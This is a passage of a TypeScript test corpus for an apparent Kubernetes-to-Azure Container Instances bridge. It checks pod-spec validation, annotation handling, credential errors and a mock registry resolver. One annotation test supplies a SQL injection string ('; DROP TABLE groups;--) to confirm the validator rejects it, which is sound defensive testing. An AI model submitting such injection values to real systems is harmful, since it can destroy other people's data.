        securityContext: { sysctls: [{ name: "net.core.somaxconn", value: "1024" }] },
      }),
    },
    expect: failed("UnsupportedPodSpec", "spec.securityContext.sysctls"),
  },
  {
    id: "spec-sidecar-init",
    description: "sidecar init container (restartPolicy: Always)",
    input: {
      kind: "pod",
      pod: corpusPod("spec-sidecar-init", {
        initContainers: [{ name: "proxy", image: "envoy", restartPolicy: "Always" }],
      }),
    },
    expect: {
      outcome: "runs",
      check: (g) =>
        assertThat(
          g.properties.containers.some((c) => c.name === "proxy"),
          "the sidecar runs as an ACI container beside the main one",
        ),
    },
    note: 'a native sidecar runs beside the main containers (docs/translation.md "Native sidecars")',
  },
  {
    id: "spec-windows-pod",
    description: "pod asks for Windows on a Linux node",
    input: { kind: "pod", pod: corpusPod("spec-windows-pod", { os: { name: "windows" } }) },
    expect: failed("UnsupportedPodSpec", "spec.os.name"),
  },
  {
    id: "spec-dns-none",
    description: 'dnsPolicy "None" without nameservers',
    input: { kind: "pod", pod: corpusPod("spec-dns-none", { dnsPolicy: "None" }) },
    expect: failed("InvalidPodSpec", "spec.dnsConfig.nameservers"),
  },
  {
    id: "spec-probe-named-port",
    description: "httpGet probe on a port name the container does not have",
    input: {
      kind: "pod",
      pod: corpusPod(
        "spec-probe-named-port",
        {},
        { livenessProbe: { httpGet: { path: "/", port: "admin" } } },
      ),
    },
    expect: failed("InvalidPodSpec", "spec.containers[0].livenessProbe.httpGet.port"),
  },
]);

// ---- 3. annotations ----

const PUBLIC_IP = "aci-bridge.io/public-ip";
const DNS_LABEL = "aci-bridge.io/dns-name-label";

const annotationCases: CorpusCase[] = inCategory("annotation", [
  {
    id: "ann-public-ip-disallowed",
    description: "public IP requested; the operator disallows public IPs",
    input: { kind: "pod", pod: corpusPod("ann-public-ip-disallowed", {}, {}, { [PUBLIC_IP]: "true" }) },
    expect: failed("UnsupportedPodSpec", ann(PUBLIC_IP)),
    note: "rejected, never silently made private",
  },
  {
    id: "ann-dns-label-without-public-ip",
    description: "DNS name label without a public IP",
    input: { kind: "pod", pod: corpusPod("ann-dns-label-without-public-ip", {}, {}, { [DNS_LABEL]: "web" }) },
    expect: failed("InvalidPodSpec", ann(DNS_LABEL)),
  },
  {
    id: "ann-vk-dns-label",
    description: "virtual-kubelet's `virtualkubelet.io/dnsnamelabel` without a public IP",
    input: {
      kind: "pod",
      pod: corpusPod("ann-vk-dns-label", {}, {}, { "virtualkubelet.io/dnsnamelabel": "Bad_Label!" }),
    },
    expect: failed("InvalidPodSpec", ann("virtualkubelet.io/dnsnamelabel")),
  },
  {
    id: "ann-sku-unknown",
    description: "unknown SKU `Dedicated`",
    input: { kind: "pod", pod: corpusPod("ann-sku-unknown", {}, {}, { "aci-bridge.io/sku": "Dedicated" }) },
    expect: failed("InvalidPodSpec", ann("aci-bridge.io/sku")),
  },
  {
    id: "ann-sku-huge",
    description: "SKU annotation of 10 KiB",
    input: {
      kind: "pod",
      pod: corpusPod("ann-sku-huge", {}, {}, { "aci-bridge.io/sku": "S".repeat(10 * 1024) }),
    },
    expect: failed("InvalidPodSpec", ann("aci-bridge.io/sku")),
    note: "the Event message is cut at 1024 characters",
  },
  {
    id: "ann-priority-garbage",
    description: "priority `'; DROP TABLE groups;--`",
    input: {
      kind: "pod",
      pod: corpusPod("ann-priority-garbage", {}, {}, { "aci-bridge.io/priority": "'; DROP TABLE groups;--" }),
    },
    expect: failed("InvalidPodSpec", ann("aci-bridge.io/priority")),
  },
  {
    id: "ann-identity-not-resource-id",
    description: "managed identity `my-identity` (not a resource id)",
    input: {
      kind: "pod",
      pod: corpusPod(
        "ann-identity-not-resource-id",
        {},
        {},
        { "aci-bridge.io/managed-identity": "my-identity" },
      ),
    },
    expect: failed("InvalidPodSpec", ann("aci-bridge.io/managed-identity")),
  },
  {
    id: "ann-identity-wrong-type",
    description: "AKS virtual nodes v2 identity key naming a storage account",
    input: {
      kind: "pod",
      pod: corpusPod(
        "ann-identity-wrong-type",
        {},
        {},
        {
          "microsoft.containerinstance.virtualnode.identity": IDENTITY_OK_SHAPE,
        },
      ),
    },
    expect: failed("InvalidPodSpec", ann("microsoft.containerinstance.virtualnode.identity")),
  },
  {
    id: "ann-cce-with-standard-sku",
    description: "confidential computing policy with SKU Standard",
    input: {
      kind: "pod",
      pod: corpusPod(
        "ann-cce-with-standard-sku",
        {},
        {},
        {
          "aci-bridge.io/sku": "Standard",
          "aci-bridge.io/cce-policy": "cGF5bG9hZA==",
        },
      ),
    },
    expect: failed("InvalidPodSpec", ann("aci-bridge.io/cce-policy")),
  },
  {
    id: "ann-unsupported-probes-garbage",
    description: "`unsupported-probes: maybe` with a tcpSocket probe",
    input: {
      kind: "pod",
      pod: corpusPod(
        "ann-unsupported-probes-garbage",
        {},
        { livenessProbe: { tcpSocket: { port: 80 } } },
        { "aci-bridge.io/unsupported-probes": "maybe" },
      ),
    },
    expect: failed("UnsupportedPodSpec", "spec.containers[0].livenessProbe.tcpSocket"),
    note: "only `drop` relaxes the rule",
  },
  {
    id: "ann-unsupported-probes-drop",
    description: "`unsupported-probes: drop` with a tcpSocket probe",
    input: {
      kind: "pod",
      pod: corpusPod(
        "ann-unsupported-probes-drop",
        {},
        { livenessProbe: { tcpSocket: { port: 80 } } },
        { "aci-bridge.io/unsupported-probes": "drop" },
      ),
    },
    expect: {
      outcome: "runs",
      check: (g) =>
        assertThat(
          g.properties.containers[0]?.properties.livenessProbe === undefined,
          "the probe is dropped",
        ),
      warnings: ["ProbeDropped"],
    },
  },
  {
    id: "ann-pod-ip-substitute",
    description: "status.podIP fieldRef with `pod-ip-substitute: 0.0.0.0`",
    input: {
      kind: "pod",
      pod: corpusPod(
        "ann-pod-ip-substitute",
        {},
        { env: [{ name: "IP", valueFrom: { fieldRef: { fieldPath: "status.podIP" } } }] },
        { "aci-bridge.io/pod-ip-substitute": "0.0.0.0" },
      ),
    },
    expect: { outcome: "runs", check: (g) => assertThat(env(g, "IP")?.value === "0.0.0.0", "IP=0.0.0.0") },
  },
  {
    id: "ann-huge-unrelated",
    description: "200 KiB annotation on a key the bridge does not read",
    input: {
      kind: "pod",
      pod: corpusPod("ann-huge-unrelated", {}, {}, { "aci-bridge.io/notes": "n".repeat(200 * 1024) }),
    },
    expect: { outcome: "runs" },
    note: "ignored; never echoed into logs",
  },
  {
    id: "ann-dns-label-invalid",
    description: "public IP allowed; DNS label `Bad_Label!`",
    input: {
      kind: "pod",
      harness: "publicIp",
      pod: corpusPod("ann-dns-label-invalid", {}, {}, { [PUBLIC_IP]: "true", [DNS_LABEL]: "Bad_Label!" }),
    },
    expect: failed("InvalidPodSpec", ann(DNS_LABEL)),
  },
  {
    id: "ann-dns-label-huge",
    description: "public IP allowed; DNS label of 300 characters",
    input: {
      kind: "pod",
      harness: "publicIp",
      pod: corpusPod("ann-dns-label-huge", {}, {}, { [PUBLIC_IP]: "true", [DNS_LABEL]: "a".repeat(300) }),
    },
    expect: failed("InvalidPodSpec", ann(DNS_LABEL)),
  },
  {
    id: "ann-public-ip-no-ports",
    description: "public IP allowed and requested; no container port",
    input: {
      kind: "pod",
      harness: "publicIp",
      pod: corpusPod("ann-public-ip-no-ports", {}, { ports: [] }, { [PUBLIC_IP]: "true" }),
    },
    expect: failed("InvalidPodSpec", ann(PUBLIC_IP)),
  },
]);

// ---- 4. credentials ----

const credentialCases: CorpusCase[] = [
  {
    id: "cred-arm-401",
    category: "credentials",
    description: "ARM answers 401 AuthenticationFailed to every call",
    input: { kind: "scenario", scenario: "arm-401", pod: corpusPod("cred-arm-401") },
    expect: { outcome: "retried", error: /^ARM get default-cred-arm-401: 401 AuthenticationFailed$/ },
    note: "the timer reports the node `Ready=False`, reason `ArmUnauthorized`; once ARM accepts the credentials again the pod runs",
  },
  {
    id: "cred-arm-403",
    category: "credentials",
    description: "ARM answers 403 AuthorizationFailed to every call",
    input: { kind: "scenario", scenario: "arm-403", pod: corpusPod("cred-arm-403") },
    expect: { outcome: "retried", error: /^ARM get default-cred-arm-403: 403 AuthorizationFailed$/ },
  },
  {
    id: "cred-kube-403",
    category: "credentials",
    description: "Kubernetes answers 403 Forbidden to reading the pod",
    input: { kind: "scenario", scenario: "kube-403", pod: corpusPod("cred-kube-403") },
    expect: { outcome: "retried", error: /^kubernetes get pod default\/cred-kube-403: 403 Forbidden$/ },
  },
  {
    id: "cred-kube-dead-port",
    category: "credentials",
    description: "kubeconfig pointing at a closed port",
    input: { kind: "scenario", scenario: "kube-dead-port" },
    expect: { outcome: "retried", error: /^kubernetes get pod default\/cred-kube-dead-port: .*ECONNREFUSED/ },
    note: "no ARM call; the timer logs `node.heartbeat.failed` and fails its invocation",
  },
  {
    id: "cred-registry-unavailable",
    category: "credentials",
    description: "args without command; the registry answers 503",
    input: {
      kind: "scenario",
      scenario: "registry-unavailable",
      pod: corpusPod(
        "cred-registry-unavailable",
        {},
        { image: "registry.example/flaky:1", args: ["--serve"] },
      ),
    },
    expect: { outcome: "retried", error: /^the registry answered 503 for registry\.example\/flaky:1$/ },
    note: "transient: retried, runs once the registry answers",
  },
];

// ---- 5. isolation ----

const isolationCases: CorpusCase[] = [
  {
    id: "iso-good-pod-last",
    category: "isolation",
    description: "a good pod created after every bad case, plus the pods held back by failing credentials",
    input: { kind: "scenario", scenario: "good-pod-last", pod: corpusPod("iso-good-pod-last") },
    expect: { outcome: "isolated" },
    note: "every good pod becomes Running; successful ARM PUTs = good pods; every bad pod is still Failed once, without a group",
  },
];

export const CASES: readonly CorpusCase[] = [
  ...messageCases,
  ...specCases,
  ...annotationCases,
  ...credentialCases,
  ...isolationCases,
];

export const TODO_CASES: readonly TodoCase[] = [];

// ---- the registry as the corpus sees it ----

/**
 * Behaves like lib/registry/entrypoint.ts's resolver (typed errors): `missing` images 404, `private` ones 401,
 * `flaky` ones 503 while `registryDown` is set, the known image has an ENTRYPOINT.
 */
export function corpusEntrypoints(): EntrypointResolver & { registryDown: boolean } {
  return {
    registryDown: true,
    async resolve(image) {
      if (image === KNOWN_ENTRYPOINT_IMAGE) return KNOWN_ENTRYPOINT;
      if (image.includes("/missing:"))
        throw new NotFoundError(`manifest for ${image} not found in the registry (404)`);
      if (image.includes("/private:"))
        throw new RegistryDeniedError(
          `the registry refused access to ${image} (401); check the pod's imagePullSecrets`,
        );
      if (image.includes("/flaky:")) {
        if (this.registryDown) throw new TransientError(`the registry answered 503 for ${image}`, 503);
        return KNOWN_ENTRYPOINT;
      }
      throw new Error(`corpus resolver: unexpected image ${image}`);
    },
  };
}
